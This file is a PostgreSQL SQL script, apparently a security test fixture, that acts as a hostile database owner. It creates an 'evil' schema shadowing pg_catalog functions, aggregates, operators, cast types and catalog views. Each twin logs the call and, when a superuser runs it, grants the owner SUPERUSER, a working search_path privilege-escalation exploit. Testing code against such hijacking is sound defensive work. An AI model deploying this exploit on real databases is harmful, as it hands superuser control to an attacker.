-- What a hostile database owner does (run as that owner, test/security/run.sh):
-- a schema "evil" that shadows pg_catalog, to be put first in the database's
-- search_path.  Every function, aggregate and operator of pg_catalog that
-- PL/pgSQL can stand in for, and the types named in casts, get a twin here
-- whose body records the call in evil.calls and, when it runs as a
-- superuser, makes the owner one.  Whoever's code resolves a name through
-- this search_path calls the owner's code instead of the built-in.  Run it
-- with search_path = pg_catalog.
CREATE SCHEMA evil;
CREATE TABLE evil.calls (
    current_role_ name,
    session_role name,
    what text,
    query text
);
-- anyone the owner can trick must be able to run the twins
GRANT USAGE ON SCHEMA evil TO PUBLIC;
GRANT INSERT ON evil.calls TO PUBLIC;
CREATE FUNCTION evil.pwn(what text) RETURNS boolean
LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $$
BEGIN
    INSERT INTO evil.calls VALUES (current_user, session_user, what, current_query());
    IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
        EXECUTE format('ALTER ROLE %I SUPERUSER', (SELECT d.datdba::regrole::text
                                                  FROM pg_database d WHERE d.datname = current_database()));
    END IF;
    RETURN true;
END
$$;

DO $$
DECLARE
    f record;
    args text;
    body text;
BEGIN
    FOR f IN SELECT p.oid, p.proname, p.prokind, p.proretset,
                    pg_get_function_arguments(p.oid) AS args,
                    pg_get_function_identity_arguments(p.oid) AS idargs,
                    pg_get_function_result(p.oid) AS result
               FROM pg_proc p
              WHERE p.pronamespace = 'pg_catalog'::regnamespace
                AND p.prokind = ANY ('{f,a}')
    LOOP
        body := format('BEGIN PERFORM evil.pwn(%L); RETURN%s; END',
                       f.proname || '(' || f.idargs || ')',
                       CASE WHEN f.proretset THEN '' ELSE ' NULL' END);
        BEGIN
            IF f.prokind = 'f' THEN
                EXECUTE format('CREATE FUNCTION evil.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L',
                               f.proname, f.args, f.result, body);
            ELSE
                args := CASE WHEN f.idargs = ANY ('{"*",""}') THEN ''
                             ELSE ', ' || f.idargs END;
                EXECUTE format('CREATE FUNCTION evil.%I(int4%s) RETURNS int4 LANGUAGE plpgsql AS %L',
                               'agg_' || f.oid, args, replace(body, 'RETURN NULL', 'RETURN 0'));
                EXECUTE format('CREATE AGGREGATE evil.%I(%s) (SFUNC = evil.%I, STYPE = int4)',
                               f.proname, CASE WHEN f.idargs = '' THEN '*' ELSE f.idargs END,
                               'agg_' || f.oid);
            END IF;
        EXCEPTION WHEN OTHERS THEN
            NULL;   -- PL/pgSQL cannot take internal, "any", cstring, ...
        END;
    END LOOP;
END
$$;

DO $$
DECLARE
    o record;
    fn text;
BEGIN
    FOR o IN SELECT op.oid, op.oprname, op.oprleft, op.oprright, op.oprresult
               FROM pg_operator op
              WHERE op.oprnamespace = 'pg_catalog'::regnamespace
    LOOP
        fn := 'op_' || o.oid;
        BEGIN
            EXECUTE format('CREATE FUNCTION evil.%I(%s%s) RETURNS %s LANGUAGE plpgsql AS %L',
                fn,
                CASE WHEN o.oprleft = 0 THEN ''
                     ELSE format_type(o.oprleft, NULL) || ', ' END,
                format_type(o.oprright, NULL), format_type(o.oprresult, NULL),
                format('BEGIN PERFORM evil.pwn(%L); RETURN NULL; END',
                       'operator ' || o.oprname || ' ' || o.oid));
            EXECUTE format('CREATE OPERATOR evil.%s (%s RIGHTARG = %s, FUNCTION = evil.%I)',
                o.oprname,
                CASE WHEN o.oprleft = 0 THEN ''
                     ELSE 'LEFTARG = ' || format_type(o.oprleft, NULL) || ',' END,
                format_type(o.oprright, NULL), fn);
        EXCEPTION WHEN OTHERS THEN
            NULL;
        END;
    END LOOP;
END
$$;

-- types named in casts (text, jsonb, ...): a domain whose check calls home
DO $$
DECLARE
    t text;
BEGIN
    FOREACH t IN ARRAY '{text,jsonb,json,int8,int4,int2,bool,bytea,name,oid,regclass,regtype,
                         timestamptz,timestamp,float8,numeric,interval,varchar,bpchar}'::text[]
    LOOP
        EXECUTE format('CREATE DOMAIN evil.%I AS pg_catalog.%I CHECK (evil.pwn(%L))',
                       t, t, 'type ' || t);
    END LOOP;
END
$$;

-- and the catalog views and tables that code might name without a schema
DO $$
DECLARE
    r text;
BEGIN
    FOREACH r IN ARRAY '{pg_roles,pg_extension,pg_namespace,pg_type,pg_class,pg_proc,pg_database}'::text[]
    LOOP
        EXECUTE format('CREATE VIEW evil.%I AS SELECT * FROM pg_catalog.%I WHERE evil.pwn(%L)',
                       r, r, 'relation ' || r);
    END LOOP;
END
$$;
